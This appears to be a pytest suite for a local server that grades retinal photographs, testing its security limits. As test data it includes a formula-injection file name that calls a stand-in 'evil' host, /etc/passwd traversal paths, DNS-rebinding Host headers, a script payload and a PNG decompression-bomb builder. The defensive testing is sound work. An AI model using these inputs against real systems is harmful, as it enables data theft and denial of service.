"""`eyetune serve`: what it says is what `predict` says, nobody else may ask, and nothing is too large, slow or odd."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import socket
import sys
import tempfile
import threading
import time
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import quote

import numpy as np
import pytest
from data_kit import fundus
from dicom_kit import write
from serve_kit import Client, eye, reader_of, served, tiny_run

from eyetune.cli import main
from eyetune.data.fundus import FundusSettings
from eyetune.data.record import Record
from eyetune.errors import ConfigError, RunError
from eyetune.metrics.calibration import fit_calibration
from eyetune.metrics.predictions import LabelPredictions, ValuePredictions
from eyetune.metrics.table import Table
from eyetune.predicting import Predictor
from eyetune.predicting.output import encode
from eyetune.serving import desk
from eyetune.serving import server as serving_server
from eyetune.serving.card import about, card
from eyetune.serving.desk import Full, Photograph, Room
from eyetune.serving.eyes import guess
from eyetune.serving.keep import Kept
from eyetune.serving.limits import MIB, Limits
from eyetune.serving.reader import Reader
from eyetune.train.run import Run


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    return tiny_run(tmp_path_factory.mktemp("serve"))


@pytest.fixture(scope="module")
def reader(run: Run) -> Reader:
    return reader_of(run)


SMALL = Limits(upload=MIB, memory=2 * MIB, waiting=3, results=12, pages=40, idle=1.5, patience=60)


@pytest.fixture(scope="module")
def home(reader: Reader) -> Iterator[Client]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(serving_server, "HEAD", 1.5)
        with served(reader, SMALL) as client:
            yield client


@pytest.fixture
def page(home: Client) -> Iterator[Client]:
    opened = home.open()
    yield opened
    opened.ask("DELETE", "/api/page")


# ---- the same as predict --------------------------------------------------------------------------------------------


def odd_files() -> dict[str, bytes]:
    """Photographs of every kind, and what is none."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("eye.jpg", eye(1, ".jpg"))
    return {
        "a.png": eye(1),
        "b.jpg": eye(2, ".jpg", brightness=0.5),
        "dark.tif": eye(3, ".tif", brightness=0.1),
        "cut.jpg": eye(4, ".jpg")[:2000],
        "empty.jpg": b"",
        "page.jpg": b"<!doctype html><script>alert(1)</script>",
        "zip.jpg": packed.getvalue(),
    }


def test_rows_are_those_of_predict_to_the_last_digit(run: Run, reader: Reader, page: Client, tmp_path: Path) -> None:
    files = odd_files() | {"eye.dcm": write(tmp_path / "eye.dcm", fundus(seed=6)).read_bytes()}
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
        assert page.send(name, data).status == 201
    cards = page.cards()
    predictor = Predictor(
        run, calibration=run.calibration, points=reader.points["specificity"], quality=True, workers=0
    )
    rows = predictor.rows([Record(tmp_path / name, None, name, name) for name in files])
    assert page.rows()[0] == ",".join([*predictor.columns, "notice"])
    for row, line, shown in zip(rows, page.rows()[1:], cards, strict=True):
        wanted = row | {"error": row["error"] and str(row["error"]).replace(f"{tmp_path}/", "")}
        text = encode(wanted, predictor.columns, "csv").decode().rstrip("\n")
        found = next(csv.DictReader([page.rows()[0], line]))
        expected = next(csv.DictReader([",".join(predictor.columns), text]))
        assert found.pop("notice") == "research use, not a diagnosis"
        assert found.keys() == expected.keys()
        for column, cell in expected.items():
            if column.startswith(("prob_", "ood")) and cell and column != "out_of_distribution":
                assert float(found[column]) == pytest.approx(float(cell), abs=1e-6)
            else:
                assert found[column] == cell
        assert (shown["state"] == "failed") == bool(row["error"])
        if not row["error"]:
            assert [bar["share"] for bar in shown["bars"]] == [float(found[f"prob_{name}"]) for name in run.classes]
            assert shown["title"] == f"Grade {row['predicted']}"
    assert [card["state"] for card in cards] == ["done"] * 3 + ["failed"] * 4 + ["done"]


def test_another_operating_point_is_the_servers_to_compute(reader: Reader, page: Client) -> None:
    """The one with the other answer is in the card and in the table."""
    page.send("a.png", eye(1))
    said = {}
    for name, points in reader.points.items():
        (decision,) = page.cards(name)[0]["decisions"]
        (column,) = points
        row = next(csv.DictReader(page.rows(name)))
        assert row[column] == ("yes" if decision["positive"] else "no")
        assert decision["positive"] == (decision["share"] >= decision["threshold"])
        said[name] = (column, decision["positive"])
    assert {positive for _, positive in said.values()} == {True, False}, "else this shows nothing"
    assert {column for column, _ in said.values()} == {"referable", "positive"}
    assert page.ask("GET", "/api/table.csv?point=nothing").status == 400


def test_a_point_that_is_not_there_is_said_at_once(run: Run) -> None:
    with pytest.raises(RunError, match="no operating point 'grade >= 9'"):
        reader_of(run, point="grade >= 9")


def test_heat_map_is_as_large_as_the_photograph_and_made_once(reader: Reader, page: Client) -> None:
    page.send("a.png", eye(1))
    key = page.cards()[0]["key"]
    shown, heat = (page.ask("GET", f"/api/photographs/{key}/{what}") for what in ("preview", "heat"))
    sizes = []
    for one in (shown, heat):
        assert one.headers["content-type"] == "image/jpeg"
        import cv2

        sizes.append(cv2.imdecode(np.frombuffer(one.body, np.uint8), cv2.IMREAD_COLOR).shape)
    assert sizes[0] == sizes[1] == (200, 260, 3)
    assert heat.body != shown.body
    assert page.ask("GET", f"/api/photographs/{key}/heat").body == heat.body


def test_a_name_that_a_spreadsheet_would_run_is_only_a_name(page: Client) -> None:
    name = '=HYPERLINK("http://evil/?"&A1).png'
    page.send(name, eye(1))
    page.send("+1.png", b"no image")
    page.cards()
    rows = list(csv.DictReader(page.rows()))
    assert [row["image"] for row in rows] == [f"'{name}", "'+1.png"]
    assert rows[1]["error"].startswith("'+1.png: not an image")


def stub(table: Table) -> Reader:
    """A reader of a model that says what the table says, of whatever it sees; all fitted on the same table."""
    calibration = fit_calibration(table, "val", resamples=10)
    model = SimpleNamespace(
        **{"name": "runs/stub", "backbone": "none", "licence": "none", "cache": None, "as_run": lambda: None},
        **{"classes": table.names, "reads": "value" if table.task == "regression" else "labels"},
        **{"settings": FundusSettings(pixels=32), "calibration": calibration, "nothing": lambda: table.take([])},
        table_of=lambda names, squares, **_: table.take(range(len(names))),
    )
    return Reader(model, calibration=calibration, most_pixels=10**6)  # type: ignore[arg-type]


def first_card(reader: Reader) -> dict[str, Any]:
    ((reading, error),) = reader.read([("a.png", eye(1))])
    photograph = Photograph("k", "a.png", 1, None, state="done", reading=reading, error=error)
    assert json.dumps(about(reader, Limits()))
    return card(reader, photograph, reader.point)


def test_several_labels_have_a_bar_and_a_decision_each() -> None:
    targets = np.array([[n % 2, n % 3 == 0] for n in range(60)], dtype=np.int64)
    logits = 3.0 * (2 * targets - 1) + np.random.default_rng(0).normal(0, 4, targets.shape)
    logits[0] = (9, 0.1)
    names = [f"{n}.png" for n in range(60)]
    reader = stub(LabelPredictions(names, [None] * 60, [None] * 60, targets, logits, ["glaucoma", "drusen"]))
    found = first_card(reader)
    (reading, _) = reader.read([("a.png", eye(1))])[0]
    row = reader.row(reader.point, "a.png", reading, None)
    assert found["title"] == "glaucoma, drusen above 50%"
    assert [(bar["name"], bar["share"]) for bar in found["bars"]] == [
        ("glaucoma", row["prob_glaucoma"]),
        ("drusen", row["prob_drusen"]),
    ]
    assert [(one["title"], one["positive"]) for one in found["decisions"]] == [
        ("glaucoma", row["positive_glaucoma"]),
        ("drusen", row["positive_drusen"]),
    ]
    assert [bar["undecided"] for bar in found["bars"]] == [False, True]
    assert found["plausible"] is None


def test_a_number_has_its_range_and_no_decision() -> None:
    rng = np.random.default_rng(0)
    true = rng.normal(60, 10, 40)
    names = [f"{n}.png" for n in range(40)]
    reader = stub(ValuePredictions(names, [None] * 40, [None] * 40, true, true + rng.normal(0, 2, 40), "age"))
    found = first_card(reader)
    (reading, _) = reader.read([("a.png", eye(1))])[0]
    row = reader.row(reader.point, "a.png", reading, None)
    assert found["title"] == f"age: {row['predicted']:.4g}"
    assert found["range"] == {"low": row["low"], "high": row["high"], "level": 0.9}
    assert found["bars"] == found["decisions"] == []
    assert reader.header(reader.point) == b"image,predicted,low,high,quality,error,notice\n"


def test_what_is_unlike_the_training_images_is_said(run: Run, reader: Reader) -> None:
    for threshold in (0.0, 1e9):
        rule = run.calibration.ood.model_copy(update={"threshold": threshold})  # type: ignore[union-attr]
        with pytest.MonkeyPatch.context() as patch:
            patch.setitem(run.__dict__, "calibration", run.calibration.model_copy(update={"ood": rule}))
            found = first_card(reader)
        assert ("unlike" in found) == (threshold == 0)


# ---- who may ask ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 200),
        ({"Host": "localhost:9"}, 200),  # another port: somebody's tunnel
        ({"Host": "[::1]:80"}, 200),
        ({"Host": "evil.example"}, 403),  # DNS rebinding
        ({"Host": "127.0.0.1.evil.example"}, 403),
        ({"Host": "127.0.0.1@evil.example"}, 403),
        ({"Host": "10.0.0.7:8000"}, 403),
        ({"Host": ""}, 403),
        ({"Origin": "http://evil.example"}, 403),
        ({"Origin": "null"}, 403),
        ({"Host": "localhost:9", "Origin": "http://localhost:10"}, 403),
        ({"Host": "localhost:9", "Origin": "http://localhost:9", "Sec_Fetch_Site": "same-origin"}, 200),
        ({"Sec_Fetch_Site": "cross-site"}, 403),
        ({"Sec_Fetch_Site": "same-site"}, 403),
    ],
)
def test_foreign_host_and_origin_are_refused(page: Client, headers: dict[str, str], status: int) -> None:
    assert page.ask("GET", "/api/photographs", **headers).status == status
    assert page.ask("GET", "/api/model", **headers).status == status


def test_a_link_from_elsewhere_opens_the_page_and_nothing_more(home: Client) -> None:
    followed = {"Sec_Fetch_Site": "cross-site", "Sec_Fetch_Mode": "navigate"}
    assert home.ask("GET", "/", **followed).status == 200
    assert home.ask("GET", "/api/model", **followed).status == 403
    assert home.ask("POST", "/api/page", **followed).status == 403


def test_nobody_without_the_token_sees_anything(home: Client, page: Client) -> None:
    page.send("a.png", eye(1))
    key = page.cards()[0]["key"]
    other = home.open()
    for stranger in (home, other):
        for path in (f"/api/photographs/{key}/preview", f"/api/photographs/{key}/heat"):
            assert stranger.ask("GET", path).status == 404
        assert stranger.ask("DELETE", f"/api/photographs/{key}").status == 404
    assert other.cards() == []
    assert len(other.rows()) == 1
    assert home.ask("GET", "/api/table.csv").status == 404


@pytest.mark.parametrize(
    "path",
    [
        *("/../../etc/passwd", "/..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "/serve.js/../page.html"),
        *("/page.html", "//etc/passwd", "/api/photographs/..%2f..%2fetc%2fpasswd/preview", "/app.py"),
        "/style.css%00.html",
    ],
)
def test_no_path_leads_out(page: Client, path: str) -> None:
    found = page.ask("GET", path)
    assert found.status == 404
    assert b"root:" not in found.body


@pytest.mark.parametrize("path", ["/", "/serve.js", "/cards.js", "/files.js", "/style.css", "/serve.css", "/icon.svg"])
def test_every_answer_has_the_headers_that_keep_strangers_out(home: Client, path: str) -> None:
    for one in (home.ask("GET", path), home.ask("GET", path, Host="evil.example"), home.ask("GET", "/nothing")):
        policy = one.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "frame-ancestors 'none'" in policy
        assert "unsafe" not in policy
        assert "http" not in policy
        assert one.headers["x-content-type-options"] == "nosniff"
        assert one.headers["cache-control"] == "no-store"
        assert one.headers["referrer-policy"] == "no-referrer"
        assert "access-control-allow-origin" not in one.headers
        assert "server" not in one.headers


def test_the_page_names_nothing_outside() -> None:
    folder = Path(serving_server.__file__).parent
    for file in folder.iterdir():
        if file.suffix in (".html", ".js", ".css"):
            text = file.read_text(encoding="utf-8")
            for word in ("http:", "https:", "url(", "@import", "innerHTML", "outerHTML", "insertAdjacentHTML", "eval("):
                assert word not in text, f"{file.name}: {word}"


# ---- too large, too slow, too many ----------------------------------------------------------------------------------


def test_a_body_that_is_too_large_is_refused_whatever_it_says_of_itself(page: Client) -> None:
    for body in (bytes(MIB + 1), iter([bytes(MIB // 2)] * 4)):  # with its length, and in chunks without
        told = page.send("a.png", body)
        assert told.status == 413
        assert "1 MiB" in told.text
    assert page.send("a.png", eye(1)).status == 201, "and the place is free again"
    assert page.cards()[0]["state"] == "done"


def bomb(width: int, height: int) -> bytes:
    """A PNG of a few kilobytes that says it is so large, and is."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4, "big") + kind + content + zlib.crc32(kind + content).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(bytes(1 + 3 * width)) for _ in range(height)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def test_an_image_bomb_is_refused_by_its_head(page: Client) -> None:
    data = bomb(2001, 2000)  # 4.002 million pixels of 4
    assert len(data) < 20_000
    page.send("bomb.png", data)
    page.send("a.png", bomb(2000, 2000))
    first, second = page.cards()
    assert first["error"] == "more than 4 million pixels; save it smaller."
    assert second["state"] == "done"


@pytest.mark.parametrize("kind", ["multipart/form-data; boundary=x", "text/html", "", None])
def test_another_content_type_is_refused(page: Client, kind: str | None) -> None:
    assert page.send("a.png", eye(1), Content_Type=kind).status == 415


@pytest.mark.parametrize("name", ["", "x" * 1025, None])
def test_a_photograph_has_a_name(page: Client, name: str | None) -> None:
    assert page.ask("POST", "/api/photographs", eye(1), Content_Type="image/png", X_EyeTune_Name=name).status == 400


def test_numbers_are_numbers(page: Client) -> None:
    for since in ("-1", "x", "9" * 20, "٣"):
        assert page.ask("GET", f"/api/photographs?since={quote(since)}").status == 400
    assert page.ask("POST", "/api/page", b"something").status == 400


def raw(client: Client, *heads: str) -> bytes:
    """What comes back to bytes of ours, until the server hangs up; an error when it does not in time."""
    found = b""
    with socket.create_connection(("127.0.0.1", client.port), timeout=20) as line:
        for head in heads:
            line.sendall(head.encode())
            found += b"" if head is heads[-1] else line.recv(4096)
        while some := line.recv(4096):
            found += some
        return found


def test_who_dawdles_is_hung_up_on(page: Client) -> None:
    assert raw(page, "GET / HTTP/1.1\r\nHost: localh") == b""
    assert raw(page, "") == b""
    head = "POST /api/photographs HTTP/1.1\r\nHost: localhost\r\nContent-Type: image/png\r\nX-EyeTune-Name: a\r\n"
    told = raw(page, f"{head}X-EyeTune-Page: {page.token}\r\nContent-Length: 1000\r\n\r\nabc")
    assert told.startswith(b"HTTP/1.1 408")
    # Behind a whole request, too.
    told = raw(page, "GET /icon.svg HTTP/1.1\r\nHost: localhost\r\n\r\n", "GET / HT")
    assert told.startswith(b"HTTP/1.1 200")


def test_who_finds_no_room_waits_his_turn_and_not_for_ever(run: Run) -> None:
    """No error while there is hope: uploads beyond the room are taken in as others are read."""
    gate = threading.Event()

    class Held(Reader):
        def read(self, files):  # type: ignore[no-untyped-def]
            gate.wait(60)
            return super().read(files)

    reader = Held(run, calibration=run.calibration, most_pixels=4_000_000)
    limits = Limits(upload=MIB, memory=MIB, waiting=2, patience=60)
    found: list[int] = []
    with served(reader, limits) as client:
        page = client.open()
        threads = [threading.Thread(target=lambda: found.append(page.send("a.png", eye(1)).status)) for _ in range(12)]
        for one in threads:
            one.start()
        while len(found) < 2:
            time.sleep(0.02)
        time.sleep(0.2)
        assert found == [201, 201], "two are read or wait; the others have not been taken in"
        gate.set()
        for one in threads:
            one.join()
        assert found == [201] * 12
        assert [card["state"] for card in page.cards()] == ["done"] * 12


def test_room_is_given_in_turn_and_comes_back() -> None:
    async def story() -> list[str]:
        room, said = Room(2, 10), []
        await room.enter(6, 1)

        async def come(name: str, size: int, patience: float) -> None:
            try:
                await room.enter(size, patience)
                said.append(name)
            except Full:
                said.append(f"no {name}")

        tasks = [asyncio.create_task(come(*one)) for one in (("large", 8, 1), ("small", 1, 1), ("never", 11, 0.05))]
        await asyncio.sleep(0.1)
        assert said == ["no never"], "the small one does not push in front of the large one"
        room.leave(6)
        await asyncio.gather(*tasks)
        tasks = [asyncio.create_task(come("third", 1, 9))]
        await asyncio.sleep(0.01)
        tasks[0].cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        room.leave(8)
        room.leave(1)
        assert (room.places, room.size) == (2, 10)
        return said

    assert asyncio.run(story()) == ["no never", "large", "small"]


def test_as_many_results_as_are_kept_and_no_more(page: Client) -> None:
    for _ in range(SMALL.results):
        assert page.send("a.png", b"nothing").status == 201
    told = page.send("a.png", eye(1))
    assert told.status == 507
    assert "clear the page" in told.text
    page.cards()
    assert len(page.ask("DELETE", "/api/photographs").json["forgotten"]) == SMALL.results
    assert page.cards() == []
    assert page.send("a.png", eye(1)).status == 201


def test_pages_are_few_and_forgotten(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    late = 0.0
    monkeypatch.setattr(desk, "time", SimpleNamespace(monotonic=lambda: time.monotonic() + late))
    with served(reader_of(run), Limits(pages=2, forget=600)) as client:
        first, second = client.open(), client.open()
        first.send("a.png", eye(1))
        assert client.ask("POST", "/api/page").status == 503
        assert second.ask("DELETE", "/api/page").status == 204
        third = client.open()
        assert first.cards()[0]["state"] == "done"
        late = 601.0
        for one in (first, second, third):
            assert one.ask("GET", "/api/photographs").status == 404


def test_stopping_leaves_what_was_read(run: Run) -> None:
    gate = threading.Event()

    class Held(Reader):
        def read(self, files):  # type: ignore[no-untyped-def]
            gate.wait(60)
            return super().read(files)

    with served(Held(run, calibration=run.calibration, most_pixels=4_000_000)) as client:
        page = client.open()
        keys = [page.send("a.png", eye(1)).json["key"] for _ in range(4)]
        told = page.ask("GET", "/api/photographs").json
        assert told["total"] == 4
        assert told["waiting"] + told["reading"] == 4
        forgotten = page.ask("DELETE", "/api/photographs?waiting").json["forgotten"]
        assert 0 < len(forgotten) < 4
        gate.set()
        assert [card["key"] for card in page.cards()] == [key for key in keys if key not in forgotten]


# ---- nothing is kept ------------------------------------------------------------------------------------------------

_written: list[str] | None = None
"""What the hook below notes, while it is to note anything: it can never be taken away."""


def _notice_writing(event: str, arguments: tuple[object, ...]) -> None:
    if _written is None:
        return
    if event == "open" and isinstance(arguments[2], int) and arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
        _written.append(str(arguments[0]))
    elif event.startswith(("tempfile.", "os.mkdir", "os.rename")):
        _written.append(f"{event} {arguments[0]}")


def test_nothing_is_written_to_disk_and_no_name_is_logged(
    run: Run, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not for a large body either, which many servers spool to /tmp; nor when something goes wrong inside."""
    global _written
    sys.addaudithook(_notice_writing)

    class Broken(Reader):
        def _look(self, name, data):  # type: ignore[no-untyped-def]
            return super()._look(name, {name: data}[name if data else ""])

    reader = Broken(run, calibration=run.calibration, most_pixels=4_000_000)
    secret = "Jane_Doe_1961"
    with served(reader) as client:
        page = client.open()
        _written = []
        try:
            with tempfile.TemporaryFile():
                assert _written, "the hook sees what is written"
            _written.clear()
            padded = eye(1) + bytes(12 * MIB)
            for name, data in {f"{secret}.png": padded, f"{secret}.jpg": b"x", f"{secret}.dcm": b""}.items():
                assert page.send(name, data).status == 201
            cards = page.cards()
            page.ask("GET", f"/api/photographs/{cards[0]['key']}/heat")
            page.rows()
            page.ask("GET", f"/{secret}")
            page.ask("POST", "/api/photographs", b"", X_EyeTune_Name=secret)
            assert _written == []
        finally:
            _written = None
        assert [card["state"] for card in cards] == ["done", "failed", "failed"]
        assert "a fault of EyeTune (KeyError)" in cards[2]["error"]
    out, err = capfd.readouterr()
    assert "KeyError" in err
    assert secret not in out + err


def test_rows_are_kept_where_asked_and_nowhere_else(run: Run, reader: Reader, tmp_path: Path) -> None:
    kept = Kept(tmp_path / "kept", reader)
    (reading, error), (nothing, why) = reader.read([("a.png", eye(1)), ("=b.png", b"")])
    kept.add([Photograph("k", "a.png", 1, None, reading=reading, error=error)])
    kept.add([Photograph("l", "=b.png", 2, None, reading=nothing, error=why)])
    kept.close()
    (file,) = (tmp_path / "kept").iterdir()
    assert file.stat().st_mode & 0o077 == 0
    rows = list(csv.DictReader(file.read_text(encoding="utf-8").splitlines()))
    assert [row["image"] for row in rows] == ["a.png", "'=b.png"]
    assert rows[1]["error"].endswith("an empty file (0 bytes).")


# ---- whose eye ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "patient", "eye"),
    [
        ("IMG_12_left.jpg", "IMG_12", "left"),
        ("12-OD.png", "12", "right"),
        ("12_OS_1.png", "12_1", "left"),
        ("Image_01L.jpg", "Image_01", "left"),
        ("Image_01R.jpg", "Image_01", "right"),
        ("left_7.jpg", "7", "left"),
        ("P00001_L_clinic.jpg", "P00001_clinic", "left"),
        ("RE 1961.jpg", "1961", "right"),
        ("a/b/12_R.tif", "a/b/12", "right"),
        ("P7/right.tif", "P7", "right"),
        ("P7/OS/1.tif", "P7/1", "left"),
        ("1961.Right.jpg", "1961", "right"),
    ],
)
def test_a_name_that_says_whose_eye(name: str, patient: str, eye: str) -> None:
    found = guess(name)
    assert found is not None
    assert (found.patient, found.eye) == (patient, eye)


@pytest.mark.parametrize(
    "name",
    [
        *("12.jpg", "left.jpg", "left_right.jpg", "OD_OS.png", "bright.jpg", "IMG_leftover.jpg", "r_l.png", "/"),
        *("le_chat_re.jpg", "model.jpg", "12_le_34.jpg", "L1R.png"),
    ],
)
def test_a_name_that_does_not_say(name: str) -> None:
    assert guess(name) is None


# ---- the command ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (["--host", "0.0.0.0"], "--expose"),
        (["--name", "eyes.clinic"], "it needs --expose"),
        (["--max-upload", "100", "--max-memory", "50"], "no photograph of that size would ever have room"),
        (["--max-pixels", "101"], "at most 100 million"),
        (["--host", "no.such.host.invalid"], "--expose"),
        (["--host", "no.such.host.invalid", "--expose"], "cannot listen there"),
        ([], "no run folder at"),
    ],
)
def test_mistakes_are_said_in_a_sentence(words: list[str], said: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["serve", "nowhere", "--port", "0", *words]) == 2
    assert said in capsys.readouterr().err


def test_a_port_that_is_taken(capsys: pytest.CaptureFixture[str]) -> None:
    with serving_server.listen("127.0.0.1", 0) as taken, pytest.raises(ConfigError, match="is taken"):
        serving_server.listen("127.0.0.1", taken.getsockname()[1])


def test_exposed_it_answers_to_addresses_and_the_names_it_was_given(reader: Reader) -> None:
    with served(reader, names=("Eyes.Clinic",), addresses=True) as client:
        for host, status in {"eyes.clinic:80": 200, "10.0.0.7": 200, "[fe80::1]": 200, "evil.example": 403}.items():
            assert client.ask("GET", "/api/model", Host=host).status == status
